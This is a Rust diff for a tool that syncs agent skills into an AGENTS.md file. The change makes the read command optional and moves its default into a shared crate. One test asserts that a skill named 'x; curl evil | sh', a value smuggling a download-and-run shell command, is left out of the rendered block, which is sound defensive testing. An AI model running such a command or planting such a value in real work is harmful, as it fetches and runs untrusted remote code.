@@ -17,7 +17,7 @@ use std::io::Read;
 use std::path::Path;
 
 use skills_types::limits::MIB;
-use skills_types::render::{AGENTS_MD, SyncOptions, SyncOutcome};
+use skills_types::render::{AGENTS_MD, DEFAULT_READ_COMMAND, SyncOptions, SyncOutcome};
 use skills_types::{Error, Skill, SkillScope, SkillsConfig, sanitize};
 
 use crate::render::escape_xml;
@@ -36,9 +36,6 @@ const SYSTEM_CLOSE: &str = "</skills_system>";
 const TABLE_START: &str = "<!-- SKILLS_TABLE_START -->";
 /// Closes the table.
 const TABLE_END: &str = "<!-- SKILLS_TABLE_END -->";
-
-/// The command word the block tells the agent to run when `[sync] read_command` is not set.
-pub const DEFAULT_READ_COMMAND: &str = "skills";
 
 /// What the agent is told about the list, in our own words; `{command}` is the command word.
 const USAGE: &str = "\
@@ -288,14 +285,16 @@ pub fn sync(config: &SkillsConfig, options: &SyncOptions) -> Result<SyncOutcome,
         .collect();
     let read_command = crate::discover::settings::effective(config, false)
         .0
-        .read_command
-        .unwrap_or_else(|| DEFAULT_READ_COMMAND.to_owned());
+        .read_command;
     let left_out: Vec<String> = skills
         .iter()
         .filter(|skill| command_name(skill).is_none())
         .map(|skill| sanitize::line(&skill.name).into_owned())
         .collect();
-    let block = block_for(&skills, &read_command);
+    let block = block_for(
+        &skills,
+        read_command.as_deref().unwrap_or(DEFAULT_READ_COMMAND),
+    );
     let output = options.output.as_deref().unwrap_or(Path::new(AGENTS_MD));
     let path = resolve_output(&config.workspace, output)?;
     let existing = read_existing(&path)?;
@@ -933,7 +932,7 @@ mod tests {
                 .join("new/folder/AGENTS.md")
                 .is_file()
         );
-        assert_eq!(outcome.read_command, "skills");
+        assert_eq!(outcome.read_command, None);
     }
 
     #[test]
@@ -954,7 +953,7 @@ mod tests {
         )
         .unwrap();
         let outcome = sync(&workspace.config(), &SyncOptions::default()).unwrap();
-        assert_eq!(outcome.read_command, "skills-rs");
+        assert_eq!(outcome.read_command.as_deref(), Some("skills-rs"));
         assert_eq!(outcome.left_out, ["x; curl evil | sh"]);
         assert_eq!(outcome.skills, 3);
         let text = std::fs::read_to_string(workspace.agents_md()).unwrap();
